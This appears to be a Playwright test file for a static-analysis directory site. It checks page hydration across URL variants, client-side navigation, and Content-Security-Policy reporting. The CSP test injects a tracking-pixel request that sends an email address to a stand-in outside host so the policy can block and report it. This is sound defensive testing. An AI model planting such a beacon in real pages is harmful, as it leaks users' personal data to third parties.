import { expect, test } from '#tests/setup/browser/browser.ts'
import { wake } from '#tests/setup/browser/waking.ts'

/** A page from memory was rendered for one spelling of its address; the browser compares it with the one it has. */
const SPELLINGS = [
  '/code-review',
  '/platform/static-analysis',
  '/privacy',
  '/directory?severity=major&utm_source=a&analyzer=eslint',
  '/directory?order=newest&kind=linter&lang=js',
  '/directory/eslint?q=no&gclid=1&category=a',
  '/directory?unknown=1',
  '/directory/changes?unknown=1&analyzer=eslint',
  '/pricing?utm_source=a&unknown=1',
]

test('a page hydrates without an error under every spelling of its address, from memory too, and reports what its policy blocks', async ({
  page,
  expectFault,
}) => {
  for (const address of [...SPELLINGS, ...SPELLINGS]) {
    await page.goto(address)
    await wake(page)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }

  await test.step('it reports what its policy blocks, and knows every feature that it denies', async () => {
    expectFault(/ads\.example/)
    const warnings: string[] = []
    page.on('console', (message) => void warnings.push(message.text()))
    await page.goto('/pricing')
    const reported = page.waitForResponse('**/csp-reports')
    await page.evaluate(() => {
      new Image().src = 'https://ads.example/pixel.gif?email=ada@example.com'
    })
    expect((await reported).status()).toBe(204)
    expect(warnings.filter((text) => text.includes('Permissions-Policy'))).toEqual([])
  })
})

test('the directory is reached, turned over and left without a page load', async ({ page }) => {
  await page.goto('/')
  await wake(page)
  await page.evaluate(() => Object.assign(window, { sameDocument: true }))
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Directory' }).click()
  await page.getByRole('link', { name: 'ESLint', exact: true }).first().click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('ESLint')
  const pages = page.getByRole('navigation', { name: 'Pages of issues' })
  const first = await page.locator('a[data-hit]').first().getAttribute('href')
  await pages.getByRole('link', { name: 'Next' }).click()
  await expect(page).toHaveURL('/directory/eslint?page=2')
  await expect(pages).toContainText(/51–100 of \d+/)
  await expect(pages.getByRole('link', { name: /^Page 2 of/ })).toHaveAttribute('aria-current', 'page')
  await expect(page.locator('a[data-hit]').first()).not.toHaveAttribute('href', first ?? '')
  await pages.getByRole('link', { name: 'Previous' }).click()
  await expect(page.locator('a[data-hit]').first()).toHaveAttribute('href', first ?? '')
  await page.getByRole('link', { name: /array-callback-return/ }).click()
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Enforce')
  await expect(page).toHaveURL('/directory/eslint/issues/array-callback-return')
  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true)
})
